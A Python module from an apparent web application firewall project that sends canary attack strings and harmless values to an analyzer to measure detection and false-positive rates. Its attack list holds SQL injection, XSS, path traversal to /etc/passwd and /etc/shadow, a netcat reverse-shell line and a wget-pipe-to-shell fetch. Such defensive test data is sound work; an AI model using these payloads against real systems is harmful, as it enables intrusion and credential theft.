"""Known attacks and known harmless values, sent to the analyzer's socket by the
performance check: its detection and false-positive rates at run time. Their
request ids start with CANARY_PREFIX, so they are neither logged nor counted."""

from __future__ import annotations

from dataclasses import dataclass

from mlwaf.ops.health import ask_analyzer
from mlwaf.protocol import CANARY_PREFIX

ATTACKS = (
    ("sqli", "1' OR '1'='1' -- "),
    ("sqli", "1 UNION SELECT username, password FROM users--"),
    ("sqli", "admin'; DROP TABLE users; --"),
    ("xss", "<script>alert(document.cookie)</script>"),
    ("xss", "<img src=x onerror=alert(1)>"),
    ("xss", '"><svg/onload=alert(1)>'),
    ("cmdi", "; cat /etc/passwd"),
    ("cmdi", "| nc -e /bin/sh 10.0.0.1 4444"),
    ("cmdi", "$(wget http://203.0.113.9/x.sh -O- | sh)"),
    ("traversal", "../../../../etc/passwd"),
    ("traversal", "../../../../../../etc/shadow"),
    ("traversal", "....//....//....//etc/passwd"),
)
NOT_ATTACK_MODELS = ("profile", "behaviour")
HARMLESS = (
    "shoes",
    "John Smith",
    "john.smith@example.com",
    "Please deliver after 5pm and ring twice.",
    "2026-05-01",
    "42",
    "red, green and blue",
    "Main Street 12, Springfield",
    "How do I reset my password?",
    "+44 20 7946 0958",
    "summer-sale",
    "The quick brown fox jumps over the lazy dog",
)


@dataclass(frozen=True)
class CanaryResult:
    detection_rate: float
    false_positive_rate: float
    missed: tuple[str, ...]  # families of the attacks that passed
    flagged: tuple[str, ...]  # harmless values that did not


def _flagged(socket_path: str, number: int, value: str, timeout: float) -> bool:
    message = {"id": f"{CANARY_PREFIX}{number}", "method": "GET", "path": "/search", "args": [["query", "q", value]]}
    reasons = ask_analyzer(socket_path, message, timeout).get("reasons") or []
    # the attack models' say only: the application profile rightly finds /search?q= unknown on most sites
    return any(reason.get("model") not in NOT_ATTACK_MODELS for reason in reasons)


def run_canaries(socket_path: str, timeout: float = 2.0) -> CanaryResult:
    """Ask the analyzer about every canary (raises OSError or ValueError when it does not answer)."""
    missed = [family for i, (family, value) in enumerate(ATTACKS) if not _flagged(socket_path, i, value, timeout)]
    flagged = [v for i, v in enumerate(HARMLESS, len(ATTACKS)) if _flagged(socket_path, i, v, timeout)]
    return CanaryResult(
        detection_rate=1 - len(missed) / len(ATTACKS),
        false_positive_rate=len(flagged) / len(HARMLESS),
        missed=tuple(missed),
        flagged=tuple(flagged),
    )
